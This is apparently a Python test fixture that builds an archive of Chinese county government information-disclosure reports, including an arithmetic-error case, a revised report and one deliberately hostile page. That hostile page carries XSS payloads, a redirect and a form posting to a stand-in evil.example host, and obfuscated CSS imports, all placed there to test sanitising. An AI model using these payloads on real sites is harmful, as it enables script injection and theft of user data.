"""A small archive for the tests of the site: pages drawn in the official layout, recorded as a crawl does.

Four reports: one whole (form 2021, with blank, `/`, thousands separator, an arithmetic error and a rewritten
figure), one in form 2019 at two addresses, one hostile (markup in its title, its publisher and its page), and one
of the first publisher's next year that was corrected later (figures and text).
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass, replace
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from html import escape
from pathlib import Path

from archive import Archive, open_archive
from archive.grades import Role
from archive.record import record
from archive.refresh import refresh_stale
from archive.store.response import Response
from parsers.checks.sum_rules import check, sum_rules
from parsers.forms import form
from parsers.forms.layout import Slot, tables
from parsers.model import (
    Evidence,
    Figure,
    Forms,
    Issue,
    NarrativeFigure,
    Reading,
    Region,
    Section,
    Source,
    State,
)  # fmt: skip
from parsers.readers.html.tree import html_tree, locator
from tests.capturing import captured

BAIYAN = "http://baiyan.sample.localhost/zfxxgk/t20220128_1.html"
LIUWA = "http://liuwa.sample.localhost/gk/nb.html"
LIUWA_AGAIN = "http://liuwa.sample.localhost/tzgg/nb.html"
REVISED = "http://baiyan.sample.localhost/zfxxgk/t20230128_2.html"
HOSTILE = "http://hostile.sample.localhost/x.html?a=1&b=%22%3E%3Cscript%3E"
HOSTILE_SHEET = "http://hostile.sample.localhost/css/a.css"
EVIL = "\"><script>alert('x')</script><b>县"

PROSE = (
    "2021年，全县共收到行政复议申请2件。\n主动公开各类信息1234条，\u3000公众号发布。",
    "一是公开不够及时；二是解读形式单一。",
)


@dataclass(frozen=True)
class Built:
    """The archive and the keys that the tests open."""

    data: Path
    whole: str
    older: str
    hostile: str
    revised: str
    capture: dict[str, str]
    """Address -> capture key."""


def figures_for(form_key: str, values: dict[str, tuple[str, int | Decimal | None, State]]) -> list[Figure]:
    """Every field of the form: as given, else a printed 0."""
    keys = [field for table in tables(form_key) for field in table.fields()]
    found = []
    for key in keys:
        raw, value, state = values.get(key, ("0", 0, "value"))
        flags = ("thousands",) if "," in raw else ()
        found.append(
            Figure(key, value, state, raw, "万元" if key.endswith("amount_wan") else "件", None, flags)
        )
    return found


def page(title: str, form_key: str, figures: list[Figure], before: str = "", after: str = "") -> bytes:
    """A report page whose tables have the official layout; each cell carries its field in `data-field`."""
    raw = {f.key: f.raw or "" for f in figures}

    def slot(s: Slot) -> str:
        spans = f'rowspan="{s.rowspan}" colspan="{s.colspan}"'
        text = escape(raw[s.field]) if s.field else escape(s.zh)
        return f'<td {spans} data-field="{s.field or ""}">{text}</td>'

    body = [f"<h1>{escape(title)}</h1>", *(f"<p>{p}</p>" for p in PROSE)]
    for table in tables(form_key):
        rows = "".join(f"<tr>{''.join(slot(s) for s in row)}</tr>" for row in (*table.head, *table.body))
        body.append(f"<h2>{table.zh}</h2><table>{rows}</table>")
    text = (
        f"<html><head><title>{escape(title)}</title></head><body>{before}{''.join(body)}{after}</body></html>"
    )
    return text.encode()


def read(
    body: bytes, url: str, title: str, publisher: str, form_key: str, year: int, figures: list[Figure]
) -> Reading:
    """What the parsers would read in such a page."""
    root = html_tree(body)
    places = {e.get("data-field"): locator(e) for e in root.iter("td") if e.get("data-field")}
    placed = [replace(f, locator=places[f.key]) if f.state != "missing" else f for f in figures]
    by_key = {f.key: f for f in placed}
    heading = next(root.iter("h1"))
    return Reading(
        schema=1, parser="1.0", source=Source(None, url, "0" * 64, "text/html"), is_report=True,
        title=title, publisher=publisher, publisher_printed=publisher, publisher_kind="government",
        level="county",
        region=Region("411523", "河南省", "信阳市", "白岩县"), posted_by="白岩县政府办", report_year=year,
        published_on=date(year + 1, 1, 28), form=form_key, forms=Forms(form_key, form_key),
        evidence={"publisher": Evidence("title", publisher, locator(heading))},
        sections=(Section(1, "s1_overview", "一、总体情况", PROSE[0]),
                  Section(5, "s5_problems", "五、存在的主要问题及改进情况", PROSE[1])),
        figures=tuple(placed),
        narrative=(NarrativeFigure("review", 2, "行政复议申请2件", locator(next(root.iter("p")))),),
        checks=tuple(check(i, by_key) for i in sum_rules(form(form_key))),
        issues=(Issue("date_uncertain", "两个日期 <b>", locator(heading)),),
        content_sha256=str(year) * 16,
    )  # fmt: skip


def build(data: Path) -> Built:
    """Record the four reports in a new archive."""
    start = datetime(2026, 1, 31, 16, 30, tzinfo=UTC)
    ticks = iter(range(1, 1_000_000))
    with open_archive(data, lambda: start + timedelta(seconds=next(ticks))) as archive:
        keys: dict[str, str] = {}
        for url, body, reading in (*plain(), *hostile(), *revised()):
            keys[url] = capture(archive, url, body)
            record(archive, keys[url], reading)
        keys[HOSTILE_SHEET] = capture(archive, HOSTILE_SHEET, HOSTILE_CSS, "requisite")
        refresh_stale(archive)
        sql = "select n.url as url, r.key as key from renditions n join reports r on r.id = n.report_id"
        found = {row["url"]: row["key"] for row in archive.rows(sql)}
    return Built(data, found[BAIYAN], found[LIUWA], found[HOSTILE], found[REVISED], keys)


Made = tuple[str, bytes, Reading]
"""Address, page, reading."""


def plain() -> Iterator[Made]:
    figures = figures_for("2021", WHOLE)
    title = "白岩县人民政府2021年政府信息公开工作年度报告"
    body = page(title, "2021", figures)
    yield BAIYAN, body, read(body, BAIYAN, title, "白岩县人民政府", "2021", 2021, figures)

    figures = figures_for("2019", {"t2.art20_5.licensing.items_delta": ("-568", -568, "value")})
    title = "柳洼镇人民政府2020年政府信息公开工作年度报告"
    body = page(title, "2019", figures)
    for url in (LIUWA, LIUWA_AGAIN):
        yield url, body, read(body, url, title, "柳洼镇人民政府", "2019", 2020, figures)


def hostile() -> Iterator[Made]:
    figures = figures_for("2021", {"t3.granted.total": ("<i>7</i>", None, "unreadable")})
    body = page(EVIL, "2021", figures, before=HOSTILE_HEAD, after=HOSTILE_TAIL)
    yield HOSTILE, body, read(body, HOSTILE, EVIL, EVIL, "2021", 2022, figures)


def revised() -> Iterator[Made]:
    """Twice the same address: first with 7 requests, later with 9."""
    title = "白岩县人民政府2022年政府信息公开工作年度报告"
    for raw in ("7", "9"):
        rows, who = ("new_received", "granted", "total_results"), ("natural_person", "total")
        keys = [f"t3.{row}.{column}" for row in rows for column in who]
        figures = figures_for("2021", {key: (raw, int(raw), "value") for key in keys})
        prose = f"收到申请{raw}件。"
        body = page(title, "2021", figures, before=f"<p>{prose}</p>")
        reading = read(body, REVISED, title, "白岩县人民政府", "2021", 2022, figures)
        section = Section(1, "s1_overview", "一、总体情况", prose)
        yield REVISED, body, replace(reading, sections=(section,), content_sha256=raw * 64)


def capture(archive: Archive, url: str, body: bytes, role: Role = "report") -> str:
    """Store a body as a believed capture; gives its key."""
    headers = [("Content-Type", "text/html; charset=utf-8")]
    return captured(archive, Response(url, archive.clock(), 200, "OK", headers, body), role)


WHOLE: dict[str, tuple[str, int | Decimal | None, State]] = {
    "t2.art20_1.normative_docs.in_force": ("142", 142, "value"),
    "t2.art20_5.licensing.decisions": ("45,391", 45391, "value"),
    "t2.art20_6.coercion.decisions": ("/", None, "not_applicable"),
    "t2.art20_8.fees.amount_wan": ("46.2697", Decimal("46.2697"), "value"),
    "t3.new_received.natural_person": ("31", 31, "value"),
    "t3.new_received.business": ("2", 2, "value"),
    "t3.new_received.total": ("33", 33, "value"),
    "t3.granted.natural_person": ("31", 31, "value"),
    "t3.granted.business": ("2", 2, "value"),
    "t3.granted.total": ("33", 33, "value"),
    "t3.total_results.natural_person": ("31", 31, "value"),
    "t3.total_results.business": ("2", 2, "value"),
    # The publisher's own error: 31 + 2 is not 34.
    "t3.total_results.total": ("34", 34, "value"),
    **{f"t4.review.{c}": ("", None, "blank") for c in ("upheld", "corrected", "other", "pending", "total")},
}

HOSTILE_HEAD = """<script>document.title='owned'</script>
<meta http-equiv="refresh" content="0;url=http://evil.example/">
<link rel="stylesheet" href="http://evil.example/a.css"><link rel="stylesheet" href="css/a.css">
<style>body{position:fixed;top:-200px} h1{display:none}</style><base href="http://evil.example/">
<form action="http://evil.example/" onsubmit="steal()"><input name="q"><button>go</button>
<p onclick="alert(1)" style="position:fixed;top:0;background:url(http://evil.example/b.png);color:red">hold</p>
<a href="javascript:alert(2)">js</a><a href="http://evil.example/l" ping="http://evil.example/p">out</a>
<img src="http://evil.example/i.png" srcset="http://evil.example/i2.png 2x" onerror="alert(3)" alt="picture">
<svg onload="alert(4)"><script>alert(5)</script><a xlink:href="javascript:alert(6)"><text>t</text></a></svg>
<iframe src="http://evil.example/f"></iframe><object data="x"></object><o:p>word</o:p>"""
HOSTILE_TAIL = """</form><xmp><script>alert(7)</script></xmp>
<div id="nianbao-cell" style="display:none">trap</div><plaintext>"""
HOSTILE_CSS = rb"""@import "http://evil.example/i.css"; @\69mport url(http://evil.example/j.css);
@font-face { font-family: x; src: url(http://evil.example/f.woff) }
body::before { content: ""; position: fixed; inset: -900px 0 auto; height: 3000px; z-index: 2147483647;
  background: red u\72l("http://evil.example/c.png") }
.bar, iframe, table, html body > table td { display: none !important } td { visibility: hidden; opacity: 0 }
[id^=nianbao] { position: fixed; left: -9999px; outline: 0 !important; transform: scale(0) }
p { background-image: image-set("http://evil.example/s.png" 1x); color: rgb(1, 2, 3) }
</style><script>document.title = 'owned'</script>"""
